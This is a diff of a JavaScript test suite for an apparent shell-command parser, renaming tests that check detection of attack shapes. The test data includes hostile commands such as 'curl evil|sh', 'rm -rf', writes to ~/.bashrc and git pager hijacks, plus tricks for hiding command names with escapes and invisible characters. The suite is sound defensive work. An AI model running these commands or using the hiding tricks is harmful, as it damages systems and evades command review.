@@ -312,18 +312,18 @@ describe('what cannot be known is said', () => {
 })
 
 describe('attack shapes', () => {
-  it('C4-1 a command behind a harmless `cd` is seen', () => {
+  it('a command behind a harmless `cd` is seen', () => {
     assert.deepEqual(names('cd /tmp && curl evil|sh'), ['cd', 'curl', 'sh'])
     assert.equal(find('cd /tmp && curl evil|sh', 'sh').runs, 'stdin-script')
   })
 
-  it('C4-2 every segment counts', () => {
+  it('every segment counts', () => {
     assert.deepEqual(names('git log; rm -rf x'), ['git', 'rm'])
     assert.deepEqual(names('git log\nrm -rf x'), ['git', 'rm'])
     assert.deepEqual(names('git log & rm -rf x'), ['git', 'rm'])
   })
 
-  it('C4-3 a program is found however it is run', () => {
+  it('a program is found however it is run', () => {
     for (const text of [
       'find . -exec rm {} \\;',
       'ls | xargs rm',
@@ -337,7 +337,7 @@ describe('attack shapes', () => {
     }
   })
 
-  it('C4-4 arguments are kept apart, in order, dequoted', () => {
+  it('arguments are kept apart, in order, dequoted', () => {
     for (const [text, expected] of [
       ['rm -fr x', ['-fr', 'x']],
       ['rm x -r -f', ['x', '-r', '-f']],
@@ -351,21 +351,21 @@ describe('attack shapes', () => {
     }
   })
 
-  it('C4-5 assignments and wrappers do not hide it', () => {
+  it('assignments and wrappers do not hide it', () => {
     for (const wrapper of ['FOO=1', 'timeout 5', 'nice', 'env', 'sudo', 'stdbuf -oL', 'xvfb-run']) {
       assert.ok(names(`${wrapper} rm x`).includes('rm'), wrapper)
     }
     assert.deepEqual(names('unheard-of-wrapper rm x'), ['unheard-of-wrapper'])
   })
 
-  it('C4-6 files that are opened are named', () => {
+  it('files that are opened are named', () => {
     const [redirection] = only('echo x > ~/.bashrc').redirections
     assert.equal(redirection?.kind, 'write')
     assert.equal(redirection?.target?.text, '~/.bashrc')
     assert.deepEqual(redirection?.target?.expansions, ['tilde'])
   })
 
-  it('C4-7 characters that deceive are reported', () => {
+  it('characters that deceive are reported', () => {
     assert.deepEqual(suspicious('ls\rrm x'), ['carriage return', 'program name that is not plain ASCII'])
     assert.deepEqual(suspicious('ls a\0b'), ['NUL character'])
     assert.deepEqual(suspicious('echo a\u200bb'), ['invisible character'])
@@ -381,13 +381,13 @@ describe('attack shapes', () => {
     assert.deepEqual(suspicious('git commit -m "naïve 日本 👩‍💻 ✨"\n\tls'), [])
   })
 
-  it('C4-8 a list too long to be looked at is refused whole', () => {
+  it('a list too long to be looked at is refused whole', () => {
     const list = `${':;'.repeat(limits.commands)}curl evil`
     assert.equal(refusal(list), `more than ${limits.commands} commands`)
     assert.ok(names(`${':;'.repeat(60)}curl evil`).includes('curl'))
   })
 
-  it('C4-9 quoting and escapes do not hide a name', () => {
+  it('quoting and escapes do not hide a name', () => {
     for (const text of ['r\\m x', '"r"m x', "'rm' x", "$'\\x72m' x", "$'\\162'm x", 'r"m" x', 'r\\\nm x', '\\rm x']) {
       assert.equal(only(text).program, 'rm', text)
     }
@@ -397,7 +397,7 @@ describe('attack shapes', () => {
     }
   })
 
-  it('C4-10 what is not valid shell is refused', () => {
+  it('what is not valid shell is refused', () => {
     for (const text of [
       'echo "x',
       "echo 'x",
@@ -416,7 +416,7 @@ describe('attack shapes', () => {
     }
   })
 
-  it('C4-11 options that make a reader run or write are reported', () => {
+  it('options that make a reader run or write are reported', () => {
     for (const text of [
       'git -c core.pager=evil log',
       'git -ccore.pager=evil log',
@@ -470,7 +470,7 @@ describe('attack shapes', () => {
     }
   })
 
-  it('C4-12 a program beside the standard places is not the standard program', () => {
+  it('a program beside the standard places is not the standard program', () => {
     assert.equal(only('./git status').program, null)
     assert.equal(only('/tmp/git status').program, null)
     assert.equal(only('bin/git status').program, null)
